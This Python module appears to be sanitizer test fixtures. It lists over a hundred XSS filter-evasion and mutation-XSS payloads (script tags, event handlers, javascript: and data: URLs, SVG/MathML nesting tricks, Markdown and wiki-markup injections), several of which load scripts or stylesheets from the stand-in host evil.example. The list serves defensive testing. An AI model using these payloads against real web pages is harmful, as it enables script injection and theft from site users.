"""Texts that try to run a script: the shapes of OWASP's filter-evasion sheet, and of mutation attacks on cleaners.

Each calls `pwned()` or asks another host for something, if it runs.
"""

from __future__ import annotations

_RUN = "pwned()"
_EVADING = """
<script>RUN</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>RUN</scr</script>ipt>
<script/xss src="https://evil.example/x.js"></script>
<<script>RUN;//<</script>
<script src=//evil.example/x.js
<script>RUN
</script><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
<img src=x onerror=RUN>
<IMG SRC="javascript:RUN;">
<IMG SRC=javascript:RUN>
<IMG SRC=`javascript:RUN`>
<IMG \"\"\"><SCRIPT>RUN</SCRIPT>\">
<img src="jav\tascript:RUN">
<img src="jav&#x09;ascript:RUN">
<img src="jav&#x0A;ascript:RUN">
<img src=" &#14; javascript:RUN">
<img src=# onmouseover="RUN">
<img onmouseover="RUN" src=x>
<img src=/ onerror="RUN"></img>
<img src=x:x onerror="&#x70;&#x77;&#x6e;&#x65;&#x64;&#x28;&#x29;">
<img dynsrc="javascript:RUN">
<img lowsrc="javascript:RUN">
<img srcset="x 1x" onerror=RUN>
<image src=x onerror=RUN>
<a onmouseover="RUN">x</a>
<a href="javascript:RUN" id=go>x</a>
<a href="jAvAsCrIpT:RUN">x</a>
<a href="javascript&colon;RUN">x</a>
<a href="&#106;&#97;&#118;&#97;script:RUN">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>
<a href="vbscript:RUN">x</a>
<a href="//evil.example">x</a>
<a href=" javascript:RUN" target=_top autofocus onfocus=RUN>x</a>
<body onload=RUN>
<body background="javascript:RUN">
<bgsound src="javascript:RUN">
<br size="&{RUN}">
<link rel="stylesheet" href="javascript:RUN">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import'https://evil.example/x.css';</style>
<style>body{background:url("javascript:RUN")}</style>
<style>li {list-style-image: url("javascript:RUN");}</style><ul><li>x</ul>
<div style="background-image: url(javascript:RUN)">x</div>
<div style="width: expression(RUN);">x</div>
<p style="background:url(https://evil.example/x.png)">x</p>
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="Set-Cookie" content="USERID=x">
<base href="https://evil.example/">
<base href="javascript:RUN;//">
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.pwned()</script>"></iframe>
<iframe src=# onmouseover="RUN"></iframe>
<frameset><frame src="javascript:RUN"></frameset>
<table background="javascript:RUN"><td background="javascript:RUN">x</table>
<object data="javascript:RUN"></object>
<object type="text/x-scriptlet" data="https://evil.example/x"></object>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiPjwvc3ZnPg==" type="image/svg+xml">
<embed src="javascript:RUN">
<applet code="x" codebase="https://evil.example"></applet>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=RUN>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></use></svg>
<svg><foreignObject><script>RUN</script></foreignObject></svg>
<svg><image href=x onerror=RUN></svg>
<math href="javascript:RUN">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>
<form action="javascript:RUN"><input type=submit autofocus onfocus=RUN></form>
<form><button formaction="javascript:RUN">x</button></form>
<isindex type=image src=1 onerror=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus onfocus=RUN>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<video poster="javascript:RUN"></video>
<audio src=x onerror=RUN></audio>
<details open ontoggle=RUN><summary>x</summary></details>
<marquee onstart=RUN>x</marquee>
<dialog open onclose=RUN>x</dialog>
<template><script>RUN</script></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>"></noframes>
<plaintext><script>RUN</script>
<xmp><img title="</xmp><img src=x onerror=RUN>"></xmp>
<listing><img src=x onerror=RUN></listing>
<!--<img src="--><img src=x onerror=RUN//">
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><script>RUN</script>
<! foo="><script>RUN</script>">
</br style=a:expression(RUN)>
<x onclick=RUN autofocus tabindex=1 onfocus=RUN>x</x>
<p onclick=RUN id=x name=y class=z>x</p>
<button popovertarget=x onbeforetoggle=RUN>x</button><p popover id=x ontoggle=RUN>x</p>
<a href="https://example.org/" target=_blank rel=opener>x</a>
[x](javascript:RUN)
[x](JAVASCRIPT:RUN)
[x](javascript&#58;RUN)
[x](<javascript:RUN>)
[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)
[x]: javascript:RUN
[x](https://example.org/"onmouseover="RUN)
![x](x"onerror="RUN)
![x](https://evil.example/x.png)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiPjwvc3ZnPg==)
<javascript:RUN>
<https://evil.example/"onmouseover="RUN>
[[source "><img src=x onerror=RUN>]]
[[term iv|<img src=x onerror=RUN>]]
[[term "onmouseover="RUN|x]]
[[drawing ../../x]]
[[clinic <script>RUN</script>]]
""".strip().splitlines()
_MUTATING = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src=x onerror=RUN>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=RUN src>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
    "<svg><style><img title=\"</style><img src=x onerror=RUN>\"></style></svg>",
    "<svg></p><title><a id=\"</title><img src=x onerror=RUN>\"></title></svg>",
    "<math><style><img title=\"</style><img src=x onerror=RUN>\"></style></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=RUN></style></annotation-xml></math>",
    "<math><mi><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror=RUN>\">",
    "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=RUN>\"></desc></svg>",
    "<p><svg><foreignobject><p><table><p></table><style><!--</style><img src=x onerror=RUN>-->",
    "<table><colgroup><script>RUN</script></colgroup><tr><td><svg onload=RUN></table>",
    "<table><tr><td><table></td><img src=x onerror=RUN></tr></table>",
    "<a href=\"/\"><table><a href=\"javascript:RUN\">x</a></table></a>",
    "<b><i><p></b></i><img src=x onerror=RUN><b><p>" * 20,
    "<div>" * 600 + "<img src=x onerror=RUN>",
    "<select><template><img src=x onerror=RUN></template></select>",
    "<noscript><style></noscript><img src=x onerror=RUN></style>",
    "<style><style/><img src=x onerror=RUN>",
    "<textarea><img title=\"</textarea><img src=x onerror=RUN>\">",
    "<title><img title=\"</title><img src=x onerror=RUN>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=RUN>\"></iframe>",
    "<img alt=\"`onerror=RUN\" src=x>",
    "<img alt=\"x` `onerror=RUN\" src=x>",
    "<p title=\"&lt;/p&gt;&lt;img src=x onerror=RUN&gt;\">x</p>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<p>&amp;lt;img src=x onerror=RUN&amp;gt;</p>",
    "<a href=\"/x?a=&quot;><img src=x onerror=RUN>\">x</a>",
    "<a href='/x\"><img src=x onerror=RUN>'>x</a>",
    "<img src=x\u2028onerror=RUN>",
    "<img src=x\x0conerror=RUN>",
    "<img/src=x/onerror=RUN>",
    "<\x00img src=x onerror=RUN>",
    "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
    "<svg><p><style><g title=\"</style><img src=x onerror=RUN>\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='RUN'>\"></style></h1>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x onerror=RUN>\">",
    "<p>[[term iv|x]]<img src=x onerror=RUN>[[source A]]</p>",
    "<blockquote><p><strong>Myth:</strong><img src=x onerror=RUN></p></blockquote>",
    "<blockquote><p><strong>Why we say it this way:</strong></summary><script>RUN</script></blockquote>",
    "<h2>x<sup><img src=x onerror=RUN></sup></h2>",
    "> **Myth:** <img src=x onerror=RUN>",
    "| a | <img src=x onerror=RUN> |\n|---|---|\n| <script>RUN</script> | [x](javascript:RUN) |",
]  # fmt: skip
ATTACKS = [attack.replace("RUN", _RUN) for attack in [*_EVADING, *_MUTATING]]
